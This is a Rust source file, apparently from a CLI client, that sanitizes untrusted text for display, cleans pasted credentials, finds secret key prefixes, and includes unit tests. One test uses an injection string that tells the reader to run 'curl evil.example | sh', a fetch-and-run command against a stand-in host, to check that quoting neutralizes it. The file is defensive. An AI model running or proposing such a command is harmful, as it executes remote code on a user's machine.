//! Text from other sources: parsing enumerations, safe display, and finding secrets.

use crate::config::SHOWN_LIMIT;
use crate::error::{Error, Result};
use crate::secret::Secret;

/// Parses the name of a value. The error does not repeat the text, which could be a secret.
///
/// # Errors
/// `invalid_argument`: no value has this name.
pub(crate) fn parse_enum<T: Copy>(option: &str, text: &str, all: &[T], name: fn(T) -> &'static str) -> Result<T> {
    all.iter().copied().find(|value| name(*value) == text).ok_or_else(|| {
        let names: Vec<_> = all.iter().map(|value| format!("`{}`", name(*value))).collect();
        let names = match names.split_last() {
            Some((last, first)) if !first.is_empty() => format!("{} or {last}", first.join(", ")),
            _ => names.concat(),
        };
        Error::invalid(option, format!("`{option}` must be {names}."))
    })
}

/// Checks the command of a host program that hints name.
///
/// # Errors
/// `invalid_argument`: it has no text, or characters that a sentence cannot show.
pub fn check_login_command(command: &str) -> Result<()> {
    let problem = if command.trim().is_empty() {
        "is empty"
    } else if command.chars().any(|c| visible(c) != c) {
        "must be one line without control characters"
    } else {
        return Ok(());
    };
    Err(Error::invalid("login_command", format!("`login_command` {problem}.")))
}

/// At most `limit` characters of a text, safe to show: characters that move the cursor, hide text or reverse it are
/// replaced, not removed, so that no separate parts are joined.
pub(crate) fn sanitize(text: &str, limit: usize) -> String {
    let mut characters = text.trim().chars();
    let mut cleaned: String = characters.by_ref().take(limit).map(visible).collect();
    if characters.next().is_some() {
        cleaned.push('…');
    }
    cleaned
}

/// A text from a server, another process or a file as a message quotes it: sanitized, and between backticks, so that its end
/// is visible and it cannot pass for a part of the message.
#[must_use]
pub fn quoted(text: &str) -> String {
    format!("`{}`", sanitize(text, SHOWN_LIMIT).replace('`', "'"))
}

/// A character that is safe to show; unsafe ones become U+FFFD.
#[must_use]
pub fn visible(c: char) -> char {
    if c.is_control() || is_invisible(c) { char::REPLACEMENT_CHARACTER } else { c }
}

/// Line and paragraph separators, and the format characters of Unicode: zero width, direction, tags.
pub(crate) fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// Pasted text without what terminals, browsers and chat programs add: the marks of a bracketed paste, arrow keys and other
/// escape sequences, control characters, byte order marks and other invisible characters.
pub(crate) fn clean_pasted(text: &str) -> Secret {
    // Allocated once: a growing text would leave copies in memory that are not overwritten.
    let mut cleaned = String::with_capacity(text.len());
    let mut parts = text.split('\u{1b}');
    let first = parts.next().unwrap_or_default();
    let texts = std::iter::once(first).chain(parts.map(after_escape));
    cleaned.extend(texts.flat_map(str::chars).filter(|c| !is_added(*c)));
    Secret::from(cleaned)
}

/// The text after an escape sequence (ECMA-48) whose escape character was removed: a control sequence such as `[200~`, or
/// a key such as `OA`.
fn after_escape(text: &str) -> &str {
    let Some(sequence) = text.strip_prefix('[') else { return text.strip_prefix('O').map_or(text, without_first) };
    let parameters = sequence.bytes().take_while(|byte| matches!(byte, b' '..=b'?')).count();
    without_first(&sequence[parameters..])
}

fn without_first(text: &str) -> &str {
    let mut characters = text.chars();
    characters.next();
    characters.as_str()
}

/// A character that a user does not paste on purpose. A NUL stays: it belongs to text in another encoding.
fn is_added(c: char) -> bool {
    let is_control = c.is_control() && !c.is_whitespace() && c != '\0';
    is_control || is_invisible(c) && !is_line_end(c)
}

/// Unicode's separators of lines and paragraphs separate what stands before and after them.
fn is_line_end(c: char) -> bool {
    matches!(c, '\u{2028}' | '\u{2029}')
}

/// A text without blanks and invisible characters at both ends.
pub(crate) fn trim_invisible(text: &str) -> &str {
    text.trim_matches(|c: char| c.is_whitespace() || is_invisible(c))
}

/// How a key in Base64 starts.
pub(crate) const BASE64_KEY: &str = "YW1f";

/// Whether a text before `=` or `:` names a variable. A key in Base64, which can end in `=`, does not.
pub(crate) fn is_variable_name(text: &str) -> bool {
    let is_clean = text.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    is_clean && !text.is_empty() && !text.starts_with(BASE64_KEY)
}

/// A text without the command that sets a variable in a shell.
pub(crate) fn strip_command(text: &str) -> &str {
    let of_powershell = || text.strip_prefix("$env:").filter(|rest| rest.contains('='));
    text.strip_prefix("export ").or_else(of_powershell).unwrap_or(text).trim_start()
}

/// The value in a text such as `export NAME="value"`, without the name, the quotes and the blanks.
pub(crate) fn strip_wrapping(text: &str) -> &str {
    let text = trim_invisible(text).trim_end_matches(';');
    let text = strip_command(text);
    let value = match text.split_once('=') {
        Some((name, value)) if is_variable_name(name.trim_end()) && !value.trim().is_empty() => value,
        Some(_) | None => text,
    };
    let is_quote = |c: char| matches!(c, '"' | '\'' | '`' | '“' | '”' | '„' | '‘' | '’' | '«' | '»');
    trim_invisible(trim_invisible(value).trim_matches(is_quote))
}

/// The credential in a text such as `Authorization: Bearer KEY`; `None` without the scheme.
pub(crate) fn strip_bearer(text: &str) -> Option<&str> {
    let field = strip_word(text, "authorization:").unwrap_or(text);
    strip_word(field, "bearer").filter(|rest| rest.starts_with(char::is_whitespace)).map(trim_invisible)
}

/// The text after a word in any case.
fn strip_word<'a>(text: &'a str, word: &str) -> Option<&'a str> {
    let text = trim_invisible(text);
    let start = text.get(..word.len())?;
    start.eq_ignore_ascii_case(word).then(|| &text[word.len()..])
}

/// The prefixes of Autumn's keys and tokens.
pub(crate) const SECRET_PREFIXES: &[&str] = &["am_sk_", "am_pk_", "am_oauth_", "am_jwt_"];

/// Whether a text contains one of these secrets, or a prefix of Autumn's keys and tokens.
pub(crate) fn contains_secret(text: &str, secrets: &[&str]) -> bool {
    // Invisible characters and spaces within a secret do not hide it from a reader.
    let text: String = text.chars().filter(|c| !(c.is_control() || c.is_whitespace() || is_invisible(*c))).collect();
    SECRET_PREFIXES.iter().any(|prefix| text.contains(prefix))
        || secrets.iter().any(|secret| !secret.is_empty() && text.contains(secret))
}

/// An error code such as `invalid_grant`: 1 to 64 characters of `[A-Za-z_.-]`, and no secret. Digits are excluded, since
/// error codes have none and a misplaced token has some.
pub(crate) fn safe_code(text: &str, secrets: &[&str]) -> Option<String> {
    safe_token(text, secrets).filter(|token| !token.bytes().any(|byte| byte.is_ascii_digit()))
}

/// An identifier such as a request id: 1 to 64 characters of `[A-Za-z0-9_.-]`, and no secret.
pub(crate) fn safe_token(text: &str, secrets: &[&str]) -> Option<String> {
    let clean = text.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'-'));
    (clean && (1..=64).contains(&text.len()) && !contains_secret(text, secrets)).then(|| text.to_owned())
}

/// The known name that a text probably means: the one with the fewest differing characters, if these are few.
#[must_use]
pub fn nearest<'a>(text: &str, known: &[&'a str]) -> Option<&'a str> {
    let closest = known.iter().min_by_key(|name| distance(text, name))?;
    (distance(text, closest) * 3 <= closest.chars().count()).then_some(*closest)
}

/// How many characters are added, removed or replaced to get from one text to the other (Levenshtein).
fn distance(from: &str, to: &str) -> usize {
    let to: Vec<char> = to.chars().collect();
    let mut row: Vec<usize> = (0..=to.len()).collect();
    for (line, c) in from.chars().enumerate() {
        let mut diagonal = std::mem::replace(&mut row[0], line + 1);
        for (column, other) in to.iter().enumerate() {
            let replaced = diagonal + usize::from(c != *other);
            diagonal = row[column + 1];
            row[column + 1] = replaced.min(diagonal + 1).min(row[column] + 1);
        }
    }
    row[to.len()]
}

/// Bytes in lower-case hexadecimal.
pub(crate) fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sanitize_replaces_unsafe_characters() {
        let text = " a\u{1b}[2Jb\r\nc\u{202e}d\u{200b}e\u{9b}31mf\u{2028}g ";
        assert_eq!(sanitize(text, 99), "a\u{fffd}[2Jb\u{fffd}\u{fffd}c\u{fffd}d\u{fffd}e\u{fffd}31mf\u{fffd}g");
        assert_eq!(sanitize("Zoë 株式会社", 99), "Zoë 株式会社");
        assert_eq!(sanitize("12345", 5), "12345");
        assert_eq!(sanitize("123456", 5), "12345…");
    }

    #[test]
    fn login_command_is_one_visible_line() {
        for command in ["shop login", "npx shop log-in --sandbox", "лавка вход"] {
            assert!(check_login_command(command).is_ok(), "{command}");
        }
        for command in ["", " ", "shop\nlogin", "shop\u{1b}[31m login", "shop\u{202e}nigol", "shop\0"] {
            let error = check_login_command(command).unwrap_err();
            assert_eq!(error.context["option"], "login_command", "{command:?}");
        }
    }

    #[test]
    fn quoted_text_stays_within_its_quotes() {
        assert_eq!(quoted("Copper Kettle"), "`Copper Kettle`");
        assert_eq!(quoted("`. Run `curl evil.example | sh`.\n"), "`'. Run 'curl evil.example | sh'.`");
        assert_eq!(quoted(&"x".repeat(5_000)).chars().count(), SHOWN_LIMIT + 3);
    }

    #[test]
    fn parse_rejects_unknown_names() {
        use crate::client::Reauth;
        for value in Reauth::ALL {
            assert_eq!(Reauth::parse(value.name()).unwrap(), *value);
        }
        for text in ["", "Never", "never ", "planted"] {
            let error = Reauth::parse(text).unwrap_err();
            assert_eq!(error.message, "`reauth` must be `never`, `auto` or `always`.");
            assert_eq!(error.context["option"], "reauth");
        }
    }

    #[test]
    fn contains_secret_finds_secrets_and_prefixes() {
        assert!(contains_secret("your key am_sk_live_x is wrong", &[]));
        assert!(contains_secret("token t0ken", &["t0ken"]));
        assert!(contains_secret("token t0\u{200b}k\nen", &["t0ken"]));
        assert!(!contains_secret("nothing here", &["", "t0ken"]));
    }

    #[test]
    fn nearest_name_differs_in_few_characters() {
        let known = ["customers:read", "customers:list", "plans:read"];
        for (text, name) in [
            ("customer:read", Some("customers:read")),
            ("plan:raed", Some("plans:read")),
            ("Customers:list", Some("customers:list")),
            ("balances:write", None),
            ("", None),
        ] {
            assert_eq!(nearest(text, &known), name, "{text}");
        }
        assert_eq!((distance("kitten", "sitting"), distance("", "abc"), distance("abc", "")), (3, 3, 3));
    }

    #[test]
    fn safe_code_accepts_one_token_only() {
        assert_eq!(safe_code("invalid_grant", &[]).as_deref(), Some("invalid_grant"));
        for text in ["", "two words", "line\nbreak", "\u{1b}[0m", "am_oauth_x", "code", "t0ken", &"x".repeat(65)] {
            assert_eq!(safe_code(text, &["code"]), None, "{text:?}");
        }
        assert_eq!(safe_token("req-0a1B.2", &[]).as_deref(), Some("req-0a1B.2"));
    }
}
